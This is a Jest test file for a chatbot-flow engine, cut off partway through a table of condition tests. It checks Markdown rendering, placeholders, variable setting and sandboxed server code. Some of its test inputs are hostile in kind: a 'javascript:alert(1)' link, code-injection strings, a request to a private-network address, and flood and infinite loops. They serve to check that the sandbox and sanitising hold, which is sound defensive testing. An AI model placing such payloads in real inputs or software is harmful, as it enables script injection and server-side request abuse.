import { Readable } from 'node:stream'
import { afterAll, describe, expect, test } from '@jest/globals'
import type { OutboundResponse } from '../../server/outbound/client.ts'
import { boundNamed } from '../support/bounds.ts'
import { ask, bot, chat, closeSandbox, idOf, type Part, set, text, type World } from '../support/chat.ts'

afterAll(closeSandbox)

const variables = ['A', 'B', 'C', 'List', 'Other', 'Error']

/** Runs one block behind a first answer, and shows what is in A afterwards. */
async function runBlock(block: Part, world: World = {}, more: Record<string, unknown> = {}) {
  const flow = bot({ a: [{ id: 'x', ...block }, text('A is {{A}}'), ask()] }, { variables, ...more })
  return chat(flow, world)
}

const given = (prefilledVariables: Record<string, unknown>) => ({ options: { prefilledVariables } })

describe('bubbles', () => {
  test('rich text has its leaves and links filled in, and keeps unknown keys', async () => {
    const richText = [
      {
        type: 'p',
        extra: 1,
        children: [
          { text: 'Hi {{A}}', bold: true },
          { type: 'a', url: 'https://x.test/{{A}}', children: [{ text: '{{A}}' }] },
        ],
      },
      { type: 'p', children: [{ text: '' }] },
    ]
    const client = await runBlock({ type: 'text', content: { richText } }, given({ A: 'Ada' }))
    expect(client.outcome.messages[0]).toEqual({
      id: 'x',
      type: 'text',
      content: {
        type: 'richText',
        richText: [
          {
            type: 'p',
            extra: 1,
            children: [
              { text: 'Hi Ada', bold: true },
              { type: 'a', url: 'https://x.test/Ada', children: [{ text: 'Ada' }] },
            ],
          },
          { type: 'p', children: [{ text: '' }] },
        ],
      },
    })
  })

  test('lines of a value become paragraphs', async () => {
    const client = await runBlock(text('> {{A}} <'), given({ A: 'one\ntwo' }))
    expect(client.texts()[0]).toBe('> one\ntwo <')
    expect(JSON.stringify(client.outcome.messages[0])).not.toContain('\\n')
  })

  const leaf = (words: string) => ({ text: words })
  const p = (...children: unknown[]) => ({ type: 'p', children })
  const li = (...children: unknown[]) => ({ type: 'li', children })
  const lic = (...children: unknown[]) => ({ type: 'lic', children })
  test.each<[string, string, unknown[]]>([
    ['{{A}}', '**Bold**\nText', [p({ text: 'Bold', bold: true }), p(leaf('Text'))]],
    ['{{A}}', 'a\n\n\n*b*', [p(leaf('a')), p(leaf('')), p(leaf('')), p({ text: 'b', italic: true })]],
    [
      'Hello {{A}}!',
      'Multiline\n\nvariable\n**value**',
      [
        p(leaf('Hello '), leaf('Multiline')),
        p(leaf('')),
        p(leaf('variable')),
        p({ text: 'value', bold: true }, leaf('!')),
      ],
    ],
    [
      '{{A}}',
      'List:\n\n- one\n- **two**\n  1. in',
      [
        p(leaf('List:')),
        p(leaf('')),
        {
          type: 'ul',
          children: [
            li(lic(leaf('one'))),
            li(lic({ text: 'two', bold: true }), { type: 'ol', children: [li(lic(leaf('in')))] }),
          ],
        },
      ],
    ],
    [
      'See {{A}}',
      '[the **docs**](https://x.test/a)',
      [
        p(leaf('See '), {
          type: 'a',
          url: 'https://x.test/a',
          children: [leaf('the '), { text: 'docs', bold: true }],
        }),
      ],
    ],
    ['{{A}}', '# Title\n`code`', [p({ text: 'Title', bold: true }), p({ text: 'code', code: true })]],
    // Not Markdown, or nothing that may become a link.
    ['{{A}}', '2 * 3 * 4 = 24, snake_case_name', [p(leaf('2 * 3 * 4 = 24, snake_case_name'))]],
    ['{{A}}', '7. and then', [p(leaf('7. and then'))]],
    ['{{A}}', 'https://x.test/a_b_c', [p(leaf('https://x.test/a_b_c'))]],
    ['x {{A}}', '[x](javascript:alert(1))', [p(leaf('x [x](javascript:alert(1))'))]],
    ['{{A}}', '<b>**x**', [p(leaf('<b>'), { text: 'x', bold: true })]],
    ['{{A}}', '>'.repeat(8_000), [p(leaf('>'.repeat(8_000)))]],
    ['{{A}}', `**${'x'.repeat(8_000)}**`, [p(leaf(`**${'x'.repeat(8_000)}**`))]],
    // Texts of the bot itself are no Markdown.
    ['**{{A}}**', 'x', [p(leaf('**x**'))]],
  ])('%s with the Markdown %j', async (template, value, richText) => {
    const client = await runBlock(text(template), given({ A: value }))
    expect(client.outcome.messages[0]?.content).toEqual({ type: 'richText', richText })
  })

  test('values have the style of the text around them', async () => {
    const link = { type: 'a', url: 'https://x.test', children: [{ text: '{{A}}', italic: true }] }
    const richText = [p({ text: 'Hi {{A}}', bold: true }, link)]
    const client = await runBlock(
      { type: 'text', content: { richText } },
      given({ A: '*Ada* [L](https://l.test)' }),
    )
    expect(client.outcome.messages[0]).toMatchObject({
      content: {
        richText: [
          p(
            { text: 'Hi ', bold: true },
            { text: 'Ada', bold: true, italic: true },
            { text: ' ', bold: true },
            { type: 'a', url: 'https://l.test', children: [{ text: 'L', bold: true }] },
            {
              type: 'a',
              url: 'https://x.test',
              children: [
                { text: 'Ada', italic: true },
                { text: ' ', italic: true },
                { text: 'L', italic: true },
              ],
            },
          ),
        ],
      },
    })
  })

  test('Markdown of values is Markdown again for a client that requests it', async () => {
    const client = await runBlock(text('{{A}}'), {
      options: {
        prefilledVariables: { A: 'Hello World\n\n**valid `markdown` here**' },
        textBubbleContentFormat: 'markdown',
      },
    })
    expect(client.outcome.messages[0]?.content).toEqual({
      type: 'markdown',
      markdown: 'Hello World\n\n**valid** **`markdown`** **here**',
    })
  })

  test('a turn reads a bounded amount of Markdown', async () => {
    const flow = bot({ a: Array.from({ length: 6 }, () => text('{{A}}')) }, { variables: ['A'] })
    const client = await chat(flow, given({ A: `**${'x'.repeat(7_996)}**` }))
    const lengths = client.texts().map((words) => words.length)
    expect(lengths).toEqual([7_996, 7_996, 7_996, 7_996, 7_996, 8_000])
  })

  test('Markdown of a bubble becomes rich text, or stays a text', async () => {
    const leaf = (words: string, marks = {}) => ({ text: words, ...marks })
    const richText = [
      {
        type: 'p',
        children: [
          leaf('Plain '),
          leaf(' bold ', { bold: true }),
          leaf('both', { bold: true, italic: true }),
        ],
      },
      { type: 'p', children: [leaf('')] },
      { type: 'p', children: [leaf('See '), { type: 'a', url: 'https://x.test', children: [leaf('this')] }] },
      {
        type: 'ul',
        children: [
          { type: 'li', children: [{ type: 'lic', children: [leaf('one')] }] },
          {
            type: 'li',
            children: [
              { type: 'lic', children: [leaf('two')] },
              {
                type: 'ol',
                children: [{ type: 'li', children: [{ type: 'lic', children: [leaf('inner')] }] }],
              },
            ],
          },
        ],
      },
      { type: 'variable', children: [{ type: 'p', children: [leaf('deep')] }] },
    ]
    const client = await runBlock(
      { type: 'text', content: { richText } },
      { options: { textBubbleContentFormat: 'markdown' } },
    )
    expect(client.outcome.messages[0]?.content).toEqual({
      type: 'markdown',
      markdown: 'Plain  **bold** **_both_**\n\nSee [this](https://x.test)\n- one\n- two\n  1. inner\ndeep',
    })
    expect(client.transcript[0]?.text).toBe('Plain  bold both\n\nSee this\n- one\n- two\n  1. inner\ndeep')
  })

  test('a value in a link is a part of its address, and stays a link in Markdown', async () => {
    const link = { type: 'a', url: 'https://x.test/?q={{A}}', children: [{ text: '{{B}} here' }] }
    const alone = { type: 'a', url: '{{C}}', children: [{ text: 'there' }] }
    const richText = [{ type: 'p', children: [link, { text: ' ' }, alone] }]
    const values = given({ A: 'a b&c', B: 'see [x', C: 'https://y.test/a (b)' })
    const client = await runBlock({ type: 'text', content: { richText } }, values)
    expect(client.outcome.messages[0]?.content).toMatchObject({
      richText: [{ children: [{ url: 'https://x.test/?q=a%20b%26c' }, {}, { url: 'https://y.test/a (b)' }] }],
    })
    const options = { ...values.options, textBubbleContentFormat: 'markdown' as const }
    const markdown = await runBlock({ type: 'text', content: { richText } }, { options })
    expect(markdown.outcome.messages[0]?.content).toEqual({
      type: 'markdown',
      markdown: '[see \\[x here](https://x.test/?q=a%20b%26c) [there](https://y.test/a%20%28b%29)',
    })
  })

  test('values are parts of the addresses of pictures', async () => {
    const content = { url: 'https://x.test/i/{{A}}.png', clickLink: { url: 'https://x.test/?q={{A}}' } }
    const client = await runBlock({ type: 'image', content }, given({ A: 'a/b c' }))
    expect(client.outcome.messages[0]?.content).toEqual({
      url: 'https://x.test/i/a%2Fb%20c.png',
      clickLink: { url: 'https://x.test/?q=a%2Fb%20c' },
    })
  })

  test('legacy contents of bubbles become rich text', async () => {
    const plain = await runBlock(
      { type: 'text', content: { plainText: 'Old {{A}}', html: '<b>x</b>' } },
      given({ A: '1' }),
    )
    expect(plain.texts()[0]).toBe('Old 1')
    const html = await runBlock({ type: 'text', content: { html: '<p>Old <b>way</b></p>' } })
    expect(html.texts()[0]).toBe('Old way')
    const empty = await runBlock({ type: 'text' })
    expect(empty.texts()).toEqual(['A is '])
  })

  test('odd trees of rich text are read without an error', async () => {
    let deep: unknown = { text: 'x' }
    for (let level = 0; level < 5_000; level += 1) deep = { type: 'p', children: [deep] }
    for (const richText of [
      [deep],
      [null, 1, 'a', [], {}],
      [{ children: 'x' }],
      [{ type: 'ul', children: [1] }],
      // As wide as a request may be.
      [{ type: 'ul', children: Array(200_000).fill({ type: 'li' }) }],
      [
        {
          type: 'ul',
          children: Array(60_000).fill({ type: 'li', children: [{ text: 'x' }, { type: 'p' }] }),
        },
      ],
      [{ children: [{ type: 'p', children: Array(200_000).fill({ type: 'lic' }) }] }],
    ]) {
      const client = await runBlock(
        { type: 'text', content: { richText } },
        { options: { textBubbleContentFormat: 'markdown' } },
      )
      expect(client.outcome.messages.length).toBeGreaterThan(0)
    }
  })

  test.each([
    [
      'image',
      { url: 'https://img.test/{{A}}.png', clickLink: { url: '{{A}}', alt: 'alt' } },
      { url: 'https://img.test/7.png', clickLink: { url: '7', alt: 'alt' } },
    ],
    [
      'audio',
      { url: 'https://a.test/{{A}}.mp3', isAutoplayEnabled: false },
      { url: 'https://a.test/7.mp3', isAutoplayEnabled: false },
    ],
    ['embed', { url: 'https://e.test', height: '{{A}}' }, { url: 'https://e.test', height: 7 }],
    ['embed', { url: 'https://e.test', height: 'x' }, { url: 'https://e.test' }],
    [
      'video',
      { url: 'https://www.youtube.com/watch?v=abc&t=5' },
      { type: 'youtube', id: 'abc', queryParamsStr: '?t=5' },
    ],
    ['video', { url: 'https://youtu.be/abc' }, { type: 'youtube', id: 'abc' }],
    ['video', { url: 'https://www.youtube.com/shorts/abc' }, { type: 'youtube', id: 'abc' }],
    ['video', { url: 'https://vimeo.com/123' }, { type: 'vimeo', id: '123' }],
    ['video', { url: 'https://www.tiktok.com/@x/video/123' }, { type: 'tiktok', id: '123' }],
    ['video', { url: 'https://play.gumlet.io/embed/abc' }, { type: 'gumlet', id: 'abc' }],
    ['video', { url: 'https://x.test/a.mp4' }, { type: 'url', url: 'https://x.test/a.mp4' }],
    ['video', { url: 'not a url' }, { url: 'not a url' }],
  ])('%s %j', async (type, content, expected) => {
    const client = await runBlock({ type, content }, given({ A: '7' }))
    expect(client.outcome.messages[0]).toMatchObject({ id: 'x', type, content: expected })
  })

  test('an embed may wait for an event of the page', async () => {
    const content = {
      url: 'https://e.test',
      waitForEvent: { isEnabled: true, name: 'done', saveDataInVariableId: idOf('A') },
    }
    const client = await runBlock({ type: 'embed', content })
    expect(client.outcome).toMatchObject({
      isCompleted: false,
      state: { waiting: { blockId: 'x' } },
    })
    await client.say('data')
    expect(client.texts()).toEqual(['A is data'])
    expect(client.answers).toEqual([])
  })
})

describe('placeholders', () => {
  test.each<[string, Record<string, unknown>, string]>([
    ['{{A}}-{{ A }}-{{Nope}}-{{B}}', { A: '1' }, '1-1--'],
    ['{{List}}', { List: ['a', null] }, '["a",null]'],
    ['{{{A}}}', { A: '1' }, '{1}'],
    ['{{A', { A: '1' }, '{{A'],
    ['A}} {{', { A: '1' }, 'A}} {{'],
    ['{{= {{A}} + 1 =}}!', { A: '1' }, '2!'],
    ['{{= "x" + {{A}} =}}', { A: 'y' }, 'xy'],
    ['{{= "x {{A}} y" + {{A}} =}}', { A: 'q' }, 'x q yq'],
    ["{{= 'it\\'s {{A}}' =}}", { A: 'q' }, "it's q"],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: code of a bot
    ['{{= `a ${ {{A}} + 1 } {{A}}` =}}', { A: '1' }, 'a 2 1'],
    ['{{= /* " */ {{A}} + "//" + {{A}} =}}', { A: 'q' }, 'q//q'],
    ['{{= "{{B}}|{{A}}" =}}', { A: 'q' }, '|q'],
    ['{{= {{List}}.length =}}', { List: ['a', 'b'] }, '2'],
    ['{{= "{{A}}".toUpperCase() =}}', { A: 'ada' }, 'ADA'],
    ["{{= 'x{{A}}' + `y{{A}}`.length =}}", { A: '12' }, 'x123'],
    ['{{= { "{{A}}": 1 } =}}', { A: 'k' }, '{"k":1}'],
    ['{{= "{{A}}" =}}', { A: '1.50' }, '1.50'],
    ['{{= "{{List}}" =}}', { List: ['a'] }, '["a"]'],
    ['{{= "a\\{{A}}" =}}', { A: 'b' }, 'ab'],
    ['{{= "x" .replace(/"/g, "") + {{A}} =}}', { A: 'q' }, 'xq'],
    ['{{= /^{{A}}$/i.test("Q") =}}', { A: 'q' }, 'true'],
    ['{{= variable0_ ?? {{A}} =}}', { A: 'q' }, ''],
    ['{{= {{B}} =}}', {}, ''],
    ['{{= new Date(0).toLocaleString("de-DE", { timeZone: "Europe/Berlin" }) =}}', {}, '1.1.1970, 01:00:00'],
    ['{{= nonsense =}}', {}, ''],
    ['{{= {a: 1} =}}', {}, '{"a":1}'],
    ['{{= 1', {}, '{{= 1'],
    ['{{A}}', { A: '{{B}} {{= 1 + 1 =}}', B: 'secret' }, '{{B}} {{= 1 + 1 =}}'],
    ['{{= {{A}} =}}', { A: '1; throw 2' }, '1; throw 2'],
  ])('%s with %j', async (template, values, expected) => {
    const client = await runBlock(text(template), given(values))
    expect(client.texts()[0]).toBe(expected)
  })
})

describe('set variable', () => {
  test.each<[string, Record<string, unknown>, Record<string, unknown>, unknown]>([
    ['a number', { expressionToEvaluate: '0' }, {}, '0'],
    ['leading zeros', { expressionToEvaluate: '007' }, {}, '007'],
    ['text', { expressionToEvaluate: 'Promoter' }, {}, 'Promoter'],
    ['text with placeholders', { expressionToEvaluate: 'Hello {{B}}!' }, { B: 'Ada' }, 'Hello Ada!'],
    [
      'text that looks like a subtraction',
      { expressionToEvaluate: '{{B}}-{{C}}' },
      { B: 'x', C: 'y' },
      'x-y',
    ],
    ['one placeholder', { expressionToEvaluate: '{{List}}' }, { List: ['a', 'b'] }, ['a', 'b']],
    ['one unknown placeholder', { expressionToEvaluate: '{{Nope}}' }, { A: '1' }, undefined],
    ['an expression', { expressionToEvaluate: '{{B}} + 5' }, { B: '10' }, '15'],
    ['an expression without a value', { expressionToEvaluate: '{{B}} + 5' }, {}, '5'],
    ['an expression in its marks', { expressionToEvaluate: '{{= {{B}} * 2 =}}' }, { B: '2' }, '4'],
    ['an object', { expressionToEvaluate: '{\n "name": "John"\n}' }, {}, '{"name":"John"}'],
    [
      'a list',
      { expressionToEvaluate: '[1, "b", null, {"c": 1}]', isCode: true },
      {},
      ['1', 'b', null, '{"c":1}'],
    ],
    [
      'a program',
      { expressionToEvaluate: 'const a = {{B}}\nreturn a.toUpperCase()', isCode: true },
      { B: 'x' },
      'X',
    ],
    [
      'a value that is code',
      { expressionToEvaluate: '{{B}}.length', isCode: true },
      { B: '"; throw 1' },
      '10',
    ],
    [
      'a long number as text',
      { expressionToEvaluate: '{{B}} + ""', isCode: true },
      { B: '12345678901234567890' },
      '12345678901234567890',
    ],
    ['a phone number as text', { expressionToEvaluate: '"" + {{B}}', isCode: true }, { B: '+336' }, '+336'],
    ['nothing', { expressionToEvaluate: '' }, { A: '1' }, undefined],
    ['Empty', { type: 'Empty' }, { A: '1' }, undefined],
    ['Append value(s)', { type: 'Append value(s)', item: '{{B}}' }, { B: 'b' }, ['b']],
    ['Append to a text', { type: 'Append value(s)', item: 'c' }, { A: 'a' }, ['a', 'c']],
    [
      'Append a list',
      { type: 'Append value(s)', item: '{{List}}' },
      { A: ['a'], List: ['b', 'c'] },
      ['a', 'b', 'c'],
    ],
    ['Append nothing', { type: 'Append value(s)', item: '{{B}}' }, { A: ['a'] }, ['a', null]],
    ['Append an empty text', { type: 'Append value(s)', item: '' }, { A: ['a'] }, ['a', null]],
    ['Append to nothing', { type: 'Append value(s)', item: '{{B}}' }, { B: '' }, [null]],
    ['Environment name', { type: 'Environment name' }, {}, 'web'],
    ['Device type', { type: 'Device type' }, {}, 'mobile'],
    ['User ID', { type: 'User ID' }, {}, 'result1'],
    ['Result ID', { type: 'Result ID' }, {}, 'result1'],
    ['Now', { type: 'Now' }, {}, '2024-05-01T09:30:00.000Z'],
    ['Now in a zone', { type: 'Now', timeZone: '{{B}}' }, { B: 'Europe/Paris' }, '2024-05-01T11:30:00+02:00'],
    ['Now in UTC', { type: 'Now', timeZone: 'UTC' }, {}, '2024-05-01T09:30:00+00:00'],
    ['Now in an unknown zone', { type: 'Now', timeZone: 'Mars/Base' }, {}, '2024-05-01T09:30:00.000Z'],
    ['Today', { type: 'Today' }, {}, '2024-05-01T09:30:00.000Z'],
    ['Yesterday', { type: 'Yesterday' }, {}, '2024-04-30T09:30:00.000Z'],
    ['Tomorrow', { type: 'Tomorrow', timeZone: 'America/New_York' }, {}, '2024-05-02T05:30:00-04:00'],
    ['Random ID', { type: 'Random ID' }, {}, 'id1'],
    ['Pop', { type: 'Pop', saveItemInVariableId: idOf('B') }, { A: ['a', 'b'] }, ['a']],
    ['Shift', { type: 'Shift', saveItemInVariableId: idOf('B') }, { A: ['a', 'b'] }, ['b']],
    ['Pop of nothing', { type: 'Pop' }, {}, undefined],
    ['Pop of an empty list', { type: 'Pop' }, { A: [] }, []],
    ['Phone number', { type: 'Phone number' }, { A: '1' }, undefined],
    ['Contact name', { type: 'Contact name' }, { A: '1' }, undefined],
    ['Referral Click ID', { type: 'Referral Click ID' }, { A: '1' }, undefined],
    ['Referral Source ID', { type: 'Referral Source ID' }, { A: '1' }, undefined],
    ['an unknown type', { type: 'New one' }, { A: '1' }, '1'],
  ])('%s', async (_name, options, values, expected) => {
    const world = { options: { prefilledVariables: values, userAgent: 'Mozilla/5.0 (iPhone) Mobile' } }
    const client = await runBlock(
      { type: 'Set variable', options: { variableId: idOf('A'), ...options } },
      world,
    )
    expect(client.value('A')).toEqual(expected)
    if (options.saveItemInVariableId) expect(client.value('B')).toBe(options.type === 'Pop' ? 'b' : 'a')
  })

  test('Map item with same index gives the item of the second list', async () => {
    const mapListItemParams = {
      baseItemVariableId: idOf('B'),
      baseListVariableId: idOf('List'),
      targetListVariableId: idOf('Other'),
    }
    const block = {
      type: 'Set variable',
      options: { variableId: idOf('A'), type: 'Map item with same index', mapListItemParams },
    }
    const values = { List: ['x', 'y'], Other: ['1', '2'] }
    expect((await runBlock(block, given({ ...values, B: 'y' }))).value('A')).toBe('2')
    expect((await runBlock(block, given({ ...values, B: 'z', A: 'old' }))).value('A')).toBeUndefined()
  })

  test('Transcript is the text of the chat so far', async () => {
    const flow = bot(
      {
        a: [
          text('Hi'),
          ask('B'),
          text('Thanks'),
          { type: 'Set variable', options: { variableId: idOf('A'), type: 'Transcript' } },
          text('{{A}}'),
        ],
      },
      { variables },
    )
    for (const resultId of ['result1', null]) {
      const client = await chat(flow, { options: { resultId } })
      await client.say('Hello')
      expect(client.texts().at(-1)).toBe('Assistant: "Hi"\n\nUser: "Hello"\n\nAssistant: "Thanks"')
      // The result has its transcript already.
      expect(client.outcome.variables.map(({ name }) => name)).toEqual(['B'])
    }
  })

  test('failing code sets no variable, and is logged', async () => {
    const options = {
      variableId: idOf('A'),
      expressionToEvaluate: 'missing()',
      isCode: true,
      saveErrorInVariableId: idOf('Error'),
    }
    const client = await runBlock({ type: 'Set variable', options }, given({ A: 'old' }))
    expect(client.value('A')).toBe('old')
    expect(client.value('Error')).toMatch(/missing/)
    expect(client.logged('the code failed')).toMatchObject({ status: 'error', context: 'x' })
  })

  test.each<[string, Record<string, unknown>]>([
    ['{{B}}.nothing()', { B: '5' }],
    ['({{B}}).toFixed(1000)', { B: '5' }],
    ['new Intl.DateTimeFormat("en", { timeZone: "Mars" }).format()', {}],
    ['moment().format("x")', {}],
    ['window.location.href', {}],
    ['{{= nonsense =}}', {}],
    ['{{List}}.map(x => ', { List: ['a'] }],
    ['(() => { for (;;); })()', {}],
  ])('%s fails without a trace in the chat', async (expression, values) => {
    const client = await runBlock(set('A', expression), given({ A: 'old', ...values }))
    expect(client.value('A')).toBe('old')
    expect(client.texts()).toEqual(['A is old'])
    expect(client.logged('the code failed')).toMatchObject({ status: 'error', isInternal: true })
  })

  test.each<[string, Record<string, unknown>, string]>([
    ['Item(s)', {}, 'Item(s)'],
    ['{{B}} ({{C}})', { B: 'Ada', C: '3' }, 'Ada (3)'],
    ['{{B}} (1)', { B: '5' }, '5 (1)'],
    ['Home => About', {}, 'Home => About'],
    ['It is new here (really)', {}, 'It is new here (really)'],
    ['www.example.com', {}, 'www.example.com'],
    ["Don't return {{B}}!", { B: 'it' }, "Don't return it!"],
  ])('%s is text', async (expression, values, expected) => {
    const client = await runBlock(set('A', expression), given(values))
    expect(client.value('A')).toBe(expected)
    expect(client.logged('failed')).toBeUndefined()
  })

  test('a block that runs on the client becomes a client action', async () => {
    const block = set('A', '{{B}} + 1', { isExecutedOnClient: true, isUnsafe: true, isCode: true })
    const client = await runBlock(block, given({ B: '4' }))
    expect(client.outcome.clientSideActions).toEqual([
      {
        type: 'setVariable',
        expectsDedicatedReply: true,
        setVariable: {
          scriptToExecute: {
            content: 'variable0_ + 1',
            isCode: true,
            isUnsafe: true,
            args: [{ id: 'variable0_', value: 4 }],
          },
        },
      },
    ])
    expect(client.outcome).toMatchObject({ isCompleted: false, messages: [] })
    await client.say('5')
    expect(client.texts()).toEqual(['A is 5'])
    const list = await runBlock(block)
    await list.say('["a","b"]')
    expect(list.value('A')).toEqual(['a', 'b'])
    const nothing = await runBlock(block, given({ A: 'old' }))
    await nothing.say(null)
    expect(nothing.value('A')).toBeUndefined()
  })

  test.each(['Pop', 'Shift'])('%s of an empty list empties the item, so that a loop ends', async (type) => {
    const take = { variableId: idOf('A'), type, saveItemInVariableId: idOf('B') }
    const comparisons = [{ id: 'c', variableId: idOf('B'), comparisonOperator: 'Is empty' }]
    const flow = bot(
      {
        loop: [
          { type: 'Set variable', options: take },
          { type: 'Condition', items: [{ id: 'i', content: { comparisons }, to: 'end' }] },
          { ...text('{{B}}'), to: 'loop' },
        ],
        end: [text('end')],
      },
      { variables },
    )
    const client = await chat(flow, given({ A: ['pear', 'fig'] }))
    expect(client.texts().toSorted()).toEqual(['end', 'fig', 'pear'])
    expect(client.logs()).toEqual([])
    // Nothing is taken from a variable that has no value.
    const unset = await runBlock({ type: 'Set variable', options: take }, given({ B: 'old' }))
    expect(unset.value('B')).toBe('old')
  })

  test('a text that is marked as code and does not parse is the value, with its placeholders filled in', async () => {
    const options = { isCode: true, saveErrorInVariableId: idOf('Error') }
    const values = { B: 'Ada', C: 'Lovelace', Error: 'old' }
    for (const [expression, value] of [
      ['{{B}} {{C}}, room 5', 'Ada Lovelace, room 5'],
      ['Dear {{B}}!', 'Dear Ada!'],
      ['{{B}} ({{C}}', 'Ada (Lovelace'],
    ] as const) {
      const client = await runBlock(set('A', expression, options), given(values))
      expect([client.value('A'), client.value('Error')]).toEqual([value, undefined])
      expect(client.logged('does not parse')).toMatchObject({ status: 'info', isInternal: true })
    }
    for (const expression of ['JSON.parse("{")', 'return nope.x', 'nope']) {
      const client = await runBlock(set('A', expression, options), given({ ...values, A: 'keep' }))
      expect(client.value('A')).toBe('keep')
      expect(client.value('Error')).toMatch(/Error: /)
    }
  })

  test('an expression between two placeholders is code, not one placeholder', async () => {
    const expression = '{{B}} === 5 ? {x: {y: 1}} : {x: {y: 2}}'
    const client = await runBlock(set('A', expression, { isCode: true }), given({ B: '5' }))
    expect(client.value('A')).toBe('{"x":{"y":1}}')
    const braces = await runBlock(set('A', '{{B}}}}'), given({ B: '5' }))
    expect(braces.value('A')).toBe('5}}')
  })

  test('Result ID in a linked bot with a result of its own is the id of that result', async () => {
    const read = { type: 'Set variable', options: { variableId: idOf('A'), type: 'Result ID' } }
    const linked = { other: bot({ o: [read, text('{{A}}')] }, { variables, id: 'other' }) }
    for (const mergeResults of [false, true]) {
      const link = { type: 'Bot link', options: { botId: 'other', mergeResults } }
      const client = await chat(bot({ a: [link] }, { variables }), { linked })
      expect(client.texts()).toEqual([mergeResults ? 'result1' : 'id1'])
    }
  })

  test('Moment of the day asks the client, which knows the time', async () => {
    const client = await runBlock({
      type: 'Set variable',
      options: { variableId: idOf('A'), type: 'Moment of the day' },
    })
    expect(client.outcome.clientSideActions?.[0]).toMatchObject({
      type: 'setVariable',
      expectsDedicatedReply: true,
    })
    await client.say('evening')
    expect(client.value('A')).toBe('evening')
  })

  test('Moment of the day is morning until 12, afternoon until 18 and evening until midnight', async () => {
    const client = await runBlock({
      type: 'Set variable',
      options: { variableId: idOf('A'), type: 'Moment of the day' },
    })
    const [action] = client.outcome.clientSideActions as {
      setVariable: { scriptToExecute: { content: string } }
    }[]
    const moment = new Function('Date', action?.setVariable.scriptToExecute.content ?? '')
    const momentAt = (hour: number) =>
      moment(
        class {
          getHours = () => hour
        },
      )
    const hours = [0, 5, 6, 11, 12, 17, 18, 21, 22, 23]
    expect(hours.map(momentAt)).toEqual([
      ...Array(4).fill('morning'),
      ...Array(2).fill('afternoon'),
      ...Array(4).fill('evening'),
    ])
  })
})

describe('code for the server', () => {
  const script = (content: string): Part => ({
    type: 'Code',
    options: { content, isExecutedOnClient: false },
  })
  const page = (body: string) => ({
    ok: true as const,
    headers: {},
    status: 200,
    contentType: 'text/plain',
    body: new TextEncoder().encode(body),
  })

  test('sets variables, and is not sent to the visitor', async () => {
    const code = `// The key is sesame
      const all = [{{B}}, "{{B}}"]
      if (all[0] === 4) { setVariable("A", all[0] * 2) }
      setVariable("Other", all); setVariable("Nope", 1)`
    const client = await runBlock(script(code), given({ B: '4' }))
    expect(client.value('A')).toBe('8')
    expect(client.value('Other')).toEqual(['4', '4'])
    expect(client.outcome.clientSideActions).toBeUndefined()
    expect(JSON.stringify(client.outcome)).not.toContain('sesame')
  })

  test('sends requests, in the order and number of its calls', async () => {
    const code = `const seen = Math.random()
      const [a, b] = await Promise.all([fetch("https://a.test/x"), fetch(new URL("/y", "https://b.test"))])
      const body = new URLSearchParams({ k: "v" })
      const c = await fetch("https://c.test", { method: "post", headers: { "X-Key": 1 }, body })
      fetch("https://d.test").catch(() => {})
      setVariable("A", [a, b, c, String(seen === Math.random())])`
    const client = await runBlock(script(code), { reply: (request) => page(request.url) })
    expect(client.value('A')).toEqual(['https://a.test/x', 'https://b.test/y', 'https://c.test', 'false'])
    expect(client.requests).toMatchObject([
      { url: 'https://a.test/x', method: 'GET', headers: {} },
      { url: 'https://b.test/y', method: 'GET' },
      {
        url: 'https://c.test',
        method: 'POST',
        headers: { 'x-key': '1', 'content-type': 'application/x-www-form-urlencoded;charset=UTF-8' },
        body: 'k=v',
      },
      { url: 'https://d.test' },
    ])
  })

  test('gets an error for a failed request', async () => {
    const code = 'await fetch("http://10.0.0.1").catch((error) => setVariable("A", error.message))'
    expect((await runBlock(script(code))).value('A')).toMatch(/private network/)
    const client = await runBlock(script('setVariable("A", 1); await fetch("http://10.0.0.1")'))
    expect(client.value('A')).toBeUndefined()
    expect(client.logged('the script failed')).toMatchObject({
      status: 'error',
      context: 'x',
      details: 'TypeError: The host is in a private network',
      isInternal: true,
    })
  })

  test('sends no more requests than a turn may', async () => {
    const flood = 'for (let i = 0; i < 15; i++) fetch("https://a.test/" + i).catch(() => {})'
    const flow = bot({ a: [script(flood), script(flood)] }, { variables })
    const client = await chat(flow, { reply: page('') })
    expect(client.requests.length).toBe(20)
    expect(client.logged('call out 20 times')).toMatchObject({ status: 'error' })
    const one = await runBlock(script(flood.replace('15', '1000')), { reply: page('') })
    expect(one.requests.length).toBe(20)
  })

  test('writes to the log of the result', async () => {
    const client = await runBlock(
      script('console.log("price", { is: {{B}} }); console.error(new Error("x"))'),
      given({ B: '3' }),
    )
    expect(client.outcome.logs).toMatchObject([
      { status: 'info', details: 'price {"is":3}', isInternal: true },
      { status: 'info', details: 'Error: x', isInternal: true },
    ])
  })

  test.each([
    ['document.title', /ReferenceError/],
    ['while (true);', /100 ms/],
    ['const = 1', /SyntaxError/],
    [`"${'x'.repeat(100_000)}"`, /100000 characters/],
  ])('logs an error when it fails: %s', async (content, details) => {
    const client = await runBlock(script(content))
    expect(client.logged('the script failed')).toMatchObject({
      status: 'error',
      details: expect.stringMatching(details),
    })
    expect(client.texts()).toEqual(['A is '])
  })
})

describe('conditions', () => {
  type Case = [string, unknown, string | undefined, boolean]
  const cases: Case[] = [
    ['Equal to', 'a', 'a', true],
    ['Equal to', 'a', 'A', false],
    ['Equal to', 'é', 'e\u0301', true],
    ['Equal to', null, 'null', true],
    ['Equal to', null, '', false],
    ['Equal to', 'x', 'undefined', false],
    ['Equal to', ['a', 'a'], 'a', true],
    ['Equal to', ['a', 'b'], 'a', false],
    ['Equal to', [], 'a', false],
    ['Equal to', 'bb', '{{B}}', true],
    ['Equal to', 'x-bb', 'x-{{B}}', true],
    ['Not equal', 'a', 'b', true],
    ['Not equal', 'a', 'a', false],
    ['Not equal', null, 'a', true],
    ['Not equal', ['a', 'b'], 'c', true],
    ['Not equal', ['a', 'b'], 'b', false],
    ['Contains', 'Hello World', ' world ', true],
    ['Contains', 'Hello', 'x', false],
    ['Contains', 'Hello', '', false],
    ['Contains', null, 'x', false],
    ['Contains', ['ab', 'c'], 'c', true],
    ['Contains', ['ab', 'c'], 'a', false],
    ['Contains', ['l1', 'l2'], '{{List}}', true],
    ['Does not contain', 'Hello', 'x', true],
    ['Does not contain', 'Hello', 'HELL', false],
    ['Does not contain', 'Hello', '', true],
    ['Does not contain', ['ab'], 'ab', false],
    ['Does not contain', ['ab'], 'a', true],
    ['Greater than', '10', '9', true],
    ['Greater than', '9', '9', false],
